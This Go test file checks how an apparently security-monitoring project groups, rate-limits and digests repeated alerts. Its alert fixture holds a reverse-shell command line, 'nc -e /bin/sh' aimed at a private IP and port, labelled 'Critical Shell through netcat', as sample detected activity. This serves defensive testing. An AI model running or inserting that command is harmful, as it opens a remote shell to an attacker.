package notify

import (
	"fmt"
	"testing"
	"time"

	"github.com/stoop-project/stoop/internal/event"
)

var start = time.Date(2026, 11, 23, 20, 2, 1, 0, time.UTC)

func alertOf(rule, pod string, at time.Time) *Alert {
	q := func(s string) []byte { return fmt.Appendf(nil, "%q", s) }
	return &Alert{
		ID: at.String(), Time: at, Rule: rule, Priority: event.PriorityCritical, Output: "20:02:01.0: Critical Shell through netcat | a=b",
		Tags:   []string{"mitre_execution", "T1059.004"},
		Fields: []Field{{"k8s.pod.name", q(pod)}, {"k8s.ns.name", q("shop")}, {"proc.cmdline", q("nc -e /bin/sh 10.0.0.1 4444")}, {"proc.pname", q("sh")}},
	}
}

func counted(messages [][]*group) (counts []int) {
	for _, m := range messages {
		for _, g := range m {
			counts = append(counts, g.count)
		}
	}
	return counts
}

// Repeats are one message, then one a span; after a span without any, the next
// is the first again.
func TestGroup(t *testing.T) {
	x := newGrouper(Grouping{Wait: time.Second, Span: time.Minute, Rate: 100})
	steps := []struct {
		at   int // seconds
		add  int // alerts
		want string
	}{
		{0, 30000, "[]"},
		{1, 0, "[30000]"},
		{2, 5, "[]"},
		{30, 5, "[]"},
		{61, 0, "[10]"},
		{121, 0, "[]"}, // nothing came: it is forgotten
		{122, 1, "[]"},
		{123, 0, "[1]"},
	}
	for _, s := range steps {
		now := start.Add(time.Duration(s.at) * time.Second)
		for range s.add {
			x.add(alertOf("R", "web-0", now), now)
		}
		if got := fmt.Sprint(counted(x.due(now, false))); got != s.want {
			t.Errorf("after %d s: %s, want %s", s.at, got, s.want)
		}
	}
}

// Other rules, pods and parents are told apart.
func TestGroupKeys(t *testing.T) {
	x := newGrouper(DefaultGrouping)
	other := alertOf("R", "web-0", start)
	other.Fields[3].Value = []byte(`"python3"`)
	for _, a := range []*Alert{alertOf("R", "web-0", start), alertOf("S", "web-0", start), alertOf("R", "web-1", start), other, alertOf("R", "web-0", start)} {
		x.add(a, start)
	}
	if got := len(x.due(start.Add(time.Second), false)); got != 4 {
		t.Errorf("%d messages, want 4", got)
	}
}

// Beyond the rate there is one digest, when it has become quiet; no alert is
// forgotten.
func TestDigest(t *testing.T) {
	x := newGrouper(Grouping{Wait: time.Second, Span: time.Minute, Rate: 3})
	for i := range 50 {
		x.add(alertOf("R", fmt.Sprint("web-", i), start), start)
	}
	if got := len(x.due(start.Add(time.Second), false)); got != 3 {
		t.Errorf("%d messages, want 3", got)
	}
	if got := x.waiting(); got != 47 {
		t.Errorf("%d wait, want 47", got)
	}
	digest := x.due(start.Add(quiet), false)
	if len(digest) != 1 || len(digest[0]) != 47 {
		t.Fatalf("%d messages", len(digest))
	}
	l, err := render(builtin, plain, true, digest[0]...)
	if err != nil || l.Alerts != 47 || l.Title != "47 further alerts of 47 kinds" {
		t.Errorf("%+v %v", l, err)
	}
}

// However many kinds there are, memory is bounded, and the counts are right.
func TestGroupBound(t *testing.T) {
	x := newGrouper(DefaultGrouping)
	for i := range 3 * maxGroups {
		x.add(alertOf("R", fmt.Sprint("web-", i), start), start)
	}
	if len(x.groups) > maxGroups || len(x.over) > maxGroups+1 || x.waiting() != 3*maxGroups {
		t.Errorf("%d groups, %d over, %d alerts", len(x.groups), len(x.over), x.waiting())
	}
}

// Without a span each alert is a message.
func TestUngrouped(t *testing.T) {
	x := newGrouper(Grouping{Rate: 100})
	for i := range 5 {
		x.add(alertOf("R", "web-0", start.Add(time.Duration(i))), start)
	}
	if got := fmt.Sprint(counted(x.due(start, false))); got != "[1 1 1 1 1]" {
		t.Error(got)
	}
}
